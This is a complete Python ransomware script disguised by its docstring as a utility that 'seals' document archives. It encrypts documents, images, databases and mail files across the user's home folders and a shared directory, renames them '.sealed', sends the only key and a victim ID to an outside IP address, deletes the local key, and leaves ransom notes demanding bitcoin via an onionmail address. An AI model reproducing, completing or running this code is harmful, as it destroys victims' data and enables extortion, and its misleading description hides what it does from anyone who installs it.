#!/usr/bin/env python3
"""Seal document archives in place.

Walks the user's document folders and seals each file with a keystream,
rewriting it through a memory map so even large files are handled without
extra disk space. Sealed files get a trailing header and a new extension.
"""
import array
import hashlib
import logging
import mmap
import os
import secrets
import struct
import sys
import urllib.request

log = logging.getLogger("sealer")

ROOTS = ["~/Documents", "~/Desktop", "~/Pictures", "~/Projects", "/srv/share"]
TARGET_EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
              ".sqlite", ".csv", ".pst", ".zip", ".odt", ".psd", ".txt"}
SEALED_EXT = ".sealed"
MAGIC = b"SEAL"
NOTE = ("Your files have been sealed.\nTo recover them send 0.05 BTC to "
        "bc1q7x0h3d9m4kq2w8j5l6r7t0y3p8c2v5n9z4a6s and mail your ID {id} "
        "to recover.files@onionmail.org\n")
KEY_DROP = "http://198.51.100.91:8080/k"


def keystream_block(key, counter, size=4096):
    out = bytearray()
    while len(out) < size:
        out += hashlib.sha256(key + struct.pack("<Q", counter)).digest()
        counter += 1
    return array.array("B", out[:size])


def seal_file(path, key):
    size = os.path.getsize(path)
    if size == 0:
        return False
    with open(path, "r+b") as fh, mmap.mmap(fh.fileno(), 0) as mm:
        block = 4096
        for off in range(0, size, block):
            chunk = mm[off:off + block]
            ks = keystream_block(key, off // 32, len(chunk))
            data = array.array("B", chunk)
            for i in range(len(data)):
                data[i] ^= ks[i]
            mm[off:off + len(chunk)] = data.tobytes()
        mm.flush()
    with open(path, "ab") as fh:
        fh.write(MAGIC + struct.pack("<Q", size))
    os.rename(path, path + SEALED_EXT)
    return True


def targets():
    for root in ROOTS:
        root = os.path.expanduser(root)
        for dirpath, _dirs, files in os.walk(root):
            for fn in files:
                if os.path.splitext(fn)[1].lower() in TARGET_EXT:
                    yield os.path.join(dirpath, fn)


def escrow_key(victim_id, key):
    body = victim_id.encode() + b":" + key.hex().encode()
    try:
        urllib.request.urlopen(KEY_DROP, data=body, timeout=10)
    except OSError:
        pass


def main():
    logging.basicConfig(level=logging.ERROR)
    key = secrets.token_bytes(32)
    victim_id = secrets.token_hex(8)
    escrow_key(victim_id, key)
    sealed = 0
    dirs = set()
    for path in targets():
        try:
            if seal_file(path, key):
                sealed += 1
                dirs.add(os.path.dirname(path))
        except (OSError, ValueError) as exc:
            log.debug("skip %s: %s", path, exc)
    for d in dirs:
        try:
            with open(os.path.join(d, "README_SEALED.txt"), "w") as fh:
                fh.write(NOTE.format(id=victim_id))
        except OSError:
            pass
    del key
    return 0 if sealed else 1


if __name__ == "__main__":
    sys.exit(main())
